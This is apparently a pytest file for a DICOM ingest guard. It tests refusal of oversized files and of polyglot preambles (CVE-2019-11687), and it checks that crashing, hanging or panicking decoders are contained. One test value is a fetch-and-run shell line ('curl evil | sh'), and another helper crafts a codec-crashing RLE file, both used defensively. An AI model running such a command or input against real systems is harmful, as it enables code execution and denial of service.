"""tools.ingest.guard: hostile files give a named IngestError with a one-line message, nothing worse."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pydicom
import pytest
from pydicom.encaps import encapsulate

import tools.ingest.dicom as dicom
from tests.tools.ingest.helpers import (
    PE_HEADER,
    hang_decode,
    one_line,
    raise_os_error,
    sample,
    segfault_decode,
    with_preamble,
)
from tools.ingest.guard import (
    DecoderCrashedError,
    DecoderTimeoutError,
    ImageTooLargeError,
    IsolatedWorker,
    SuspiciousFileError,
    check_preamble,
)
from tools.ingest.loader import load_image


# ---------------------------------------------------------------------------------------------
# Sizes checked before anything is read
# ---------------------------------------------------------------------------------------------
def test_huge_file_refused_from_its_size(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tools.ingest.guard as guard

    monkeypatch.setattr(guard, "MAX_FILE_BYTES", 1000)
    with pytest.raises(ImageTooLargeError, match=r"^MR_small\.dcm: file is too large"):
        load_image(sample("MR_small.dcm"))


# ---------------------------------------------------------------------------------------------
# Polyglots (CVE-2019-11687)
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("preamble", "what"),
    [
        (PE_HEADER, "Windows PE"),
        (b"\x7fELF\x02\x01\x01", "ELF"),
        (b"#!/bin/sh\ncurl evil | sh\n", "script"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "Mach-O"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "Mach-O"),
        (b"PK\x03\x04\x14\x00", "ZIP"),
    ],
)
def test_polyglot_preamble_is_refused(tmp_path: Path, preamble: bytes, what: str) -> None:
    path = with_preamble(tmp_path, preamble)
    with pytest.raises(SuspiciousFileError) as info:
        load_image(path)
    msg = one_line(info.value, "poly.dcm")
    assert what in msg and "CVE-2019-11687" in msg and "allow_polyglot" in msg


def test_polyglot_loads_with_a_note_when_allowed(tmp_path: Path) -> None:
    path = with_preamble(tmp_path, PE_HEADER)
    img = load_image(path, allow_polyglot=True)
    np.testing.assert_array_equal(img.pixels, load_image(sample("MR_small.dcm")).pixels)
    assert "Windows PE" in img.notes[0] and "allow_polyglot" in img.notes[0]


def test_tiff_preamble_is_flagged_not_refused() -> None:
    # pydicom's own CT_small.dcm is a dual-personality DICOM/TIFF file, which the standard allows.
    assert Path(sample("CT_small.dcm")).read_bytes()[:4] == b"II*\x00"
    img = load_image(sample("CT_small.dcm"))
    assert any("TIFF header" in n for n in img.notes)
    assert check_preamble("x.dcm", bytes(128)) is None


# ---------------------------------------------------------------------------------------------
# A crashing or hanging codec cannot take the app down
# ---------------------------------------------------------------------------------------------
def test_segfaulting_decoder_becomes_a_named_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dicom, "decode_array", segfault_decode)
    with pytest.raises(DecoderCrashedError) as info:
        load_image(sample("MR_small_RLE.dcm"))
    assert "decoder crashed (killed by SIGSEGV)" in one_line(info.value, "MR_small_RLE.dcm")
    monkeypatch.undo()  # the next compressed load starts a fresh child and works
    assert load_image(sample("MR_small_RLE.dcm")).pixels.shape == (64, 64)


def test_hanging_decoder_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dicom, "decode_array", hang_decode)
    start = time.perf_counter()
    with pytest.raises(DecoderTimeoutError) as info:
        load_image(sample("emri_small_jpeg_2k_lossless.dcm"), decode_timeout_s=1.0)
    assert time.perf_counter() - start < 10
    assert "decoder timed out after 1 s" in one_line(info.value, "emri_small_jpeg_2k_lossless.dcm")
    monkeypatch.undo()
    assert load_image(sample("emri_small_jpeg_2k_lossless.dcm")).frames == 10


def test_unexpected_decoder_exception_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dicom, "decode_array", raise_os_error)
    with pytest.raises(DecoderCrashedError, match=r"decoder failed \(OSError: codec said no\)"):
        load_image(sample("MR_small_RLE.dcm"))


def test_worker_reports_abort_and_recovers() -> None:
    import os

    worker = IsolatedWorker()
    try:
        with pytest.raises(DecoderCrashedError, match="SIGABRT"):
            worker.call("x.dcm", os.abort, ())
        assert worker.call("x.dcm", max, (2, 3)) == 3
    finally:
        worker.close()


def _rle_overrun(path: Path) -> None:
    """MR_small_RLE whose segments are all replicate runs that overrun the frame.

    pylibjpeg-rle (Rust) panics on it, printing the panic to stderr from inside the codec.
    """
    import struct

    from pydicom.encaps import generate_fragments

    ds = pydicom.dcmread(sample("MR_small_RLE.dcm"))
    frame = bytearray(list(generate_fragments(ds.PixelData))[1])  # [0] is the offset table
    first = struct.unpack("<16I", bytes(frame[:64]))[1]  # offset of the first segment
    frame[first:] = b"\x81\x05" * ((len(frame) - first) // 2)
    ds.PixelData = encapsulate([bytes(frame)])
    ds.save_as(path)


def test_codec_panic_output_never_reaches_the_cli_user(tmp_path: Path) -> None:
    """The codec's own stderr chatter is silenced in the decoder child: one line, exit 2."""

    _rle_overrun(tmp_path / "scan.dcm")
    with pytest.raises(DecoderCrashedError, match=r"decoder failed \(PanicException"):
        load_image(tmp_path / "scan.dcm")
    run = subprocess.run([sys.executable, "-m", "agent.cli", "inspect", str(tmp_path / "scan.dcm")],
                         capture_output=True, text=True, timeout=120,
                         cwd=Path(__file__).resolve().parents[3])
    assert run.returncode == 2 and run.stdout == ""
    assert run.stderr.count("\n") == 1, run.stderr
    assert run.stderr.startswith("medloop: scan.dcm: decoder failed (PanicException")


def test_a_script_without_a_main_guard_can_decode(tmp_path) -> None:
    """Embedding medloop in a plain script must not trip over the decoder child process.

    (``multiprocessing``'s spawn re-imports ``__main__``; a script without an
    ``if __name__ == "__main__":`` guard then fails on its first compressed DICOM.)
    """

    script = tmp_path / "embed.py"
    script.write_text(
        "from tools.ingest.loader import load_image\n"
        f"img = load_image({str(sample('RG1_J2KR.dcm'))!r})\n"
        "print('shape', img.pixels.shape)\n"
    )
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True,
                          timeout=120, cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "shape (1955, 1841)" in done.stdout
    assert done.stdout.count("shape") == 1  # the script body ran once, not again in a child
